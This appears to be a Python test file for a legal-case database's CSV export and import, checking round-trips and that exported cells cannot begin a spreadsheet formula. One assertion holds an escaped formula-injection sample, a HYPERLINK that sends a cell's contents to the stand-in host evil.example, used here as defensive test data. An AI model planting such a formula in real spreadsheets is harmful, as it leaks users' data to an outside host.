"""Export, then import: no change; and no exported cell is a formula."""

import csv
import io
import string

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from cases.imports.exporting import export_csv
from cases.imports.kinds import KINDS
from cases.models import Case, Person, PersonAlias, StageRecord
from tests.make import (
    make_alias,
    make_case,
    make_case_charge,
    make_charge,
    make_custody,
    make_person,
    make_stage,
)
from tests.torture import data

from .sheets import history_rows, import_press, imported, press

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


@pytest.mark.usefixtures("reference")
@pytest.mark.parametrize("kind", KINDS)
def test_an_export_imports_without_a_change(kind: str) -> None:
    import_press()
    before = history_rows()

    plan = imported(kind, export_csv(kind))

    assert plan.counts["unchanged"] == len(plan.rows) > 0
    assert history_rows() == before


@pytest.mark.usefixtures("reference")
def test_some_of_the_stages_exported_import_without_a_change() -> None:
    case = make_case(reference="T-1")
    for month in range(1, 7):
        make_stage(case, stage_text="Extension", decided_on=f"2024-{month:02}")
    before = history_rows()

    plan = imported("stages", export_csv("stages", StageRecord.objects.order_by("-pk")[:3]))

    assert plan.counts["unchanged"] == 3
    assert history_rows() == before


@pytest.mark.usefixtures("reference")
@pytest.mark.parametrize("kind", KINDS)
def test_an_export_has_the_columns_of_the_press_sheets_first(kind: str) -> None:
    columns = next(csv.reader(io.StringIO(press(kind).decode())))

    exported = next(csv.reader(io.StringIO(export_csv(kind))))

    assert exported[: len(columns)] == columns


@pytest.mark.usefixtures("reference")
def test_no_exported_cell_starts_a_formula() -> None:
    imported("cases", data("12_formula_injection.csv"))

    cells = [cell for row in csv.reader(io.StringIO(export_csv("cases"))) for cell in row]

    assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
    assert '\' =HYPERLINK("http://evil.example/?x="&A1,"Ivan")' in cells


@pytest.mark.usefixtures("reference")
def test_formulas_come_back_as_they_were() -> None:
    imported("cases", data("12_formula_injection.csv"))

    plan = imported("cases", export_csv("cases"))

    assert plan.counts["unchanged"] == 8


@pytest.mark.django_db
def test_a_case_with_much_in_it_survives() -> None:
    case = make_case(person=make_person(birth_date="1984~", citizenships=["RU", "stateless"]))
    make_alias(case.person, "Probny; Ivan")
    make_case_charge(case, charge=make_charge("207.3"), text="One.")
    make_case_charge(case, category="economic", text="Two.")
    make_custody(case, kind="remand", started_on="2024-01")
    make_custody(case, kind="house_arrest", started_on="2024-02", ended_on="2024-03", end="ended")
    make_stage(case, stage_text="Primer", decided_on="2024-02", is_precedent=True, holding="H")
    before = history_rows()

    for kind in ("cases", "stages"):
        plan = imported(kind, export_csv(kind))
        assert plan.counts["unchanged"] == 1, plan.rows

    assert history_rows() == before


# What a database can hold and a sheet can carry: no NUL, no lost letters, no lone surrogates.
texts = st.text(
    st.characters(exclude_categories=("Cs",), exclude_characters="\x00\ufffd"), max_size=60
)
names = st.tuples(st.sampled_from(string.ascii_letters), texts).map("".join)


@pytest.mark.django_db
@settings(
    max_examples=40,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture],
)
@given(name=names, original=texts, occupation=texts, summary=texts, note=texts)
def test_any_text_survives(
    name: str, original: str, occupation: str, summary: str, note: str
) -> None:
    Case.objects.all().delete()
    PersonAlias.objects.all().delete()
    Person.objects.all().delete()
    person = make_person(name=name, name_original=original, occupation=occupation)
    make_case(person=person, summary=summary, internal_note=note, charges_text=note)

    plan = imported("cases", export_csv("cases"))

    assert plan.counts["unchanged"] == 1, (plan.errors, plan.rows)
